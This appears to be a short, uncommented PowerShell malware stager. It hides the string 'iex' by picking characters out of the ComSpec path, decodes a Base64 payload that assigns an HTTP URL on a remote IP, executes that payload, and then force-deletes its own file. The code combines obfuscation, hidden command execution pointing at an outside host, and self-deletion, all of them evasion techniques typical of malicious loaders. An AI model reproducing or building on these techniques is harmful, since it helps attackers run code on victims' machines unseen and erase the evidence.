$k = ($env:ComSpec[4,15,25] -join '')
$s = 'JABjAD0AJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA4ADgALwBzACcA'
$d = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s))
& $k $d
Remove-Item $MyInvocation.MyCommand.Path -Force
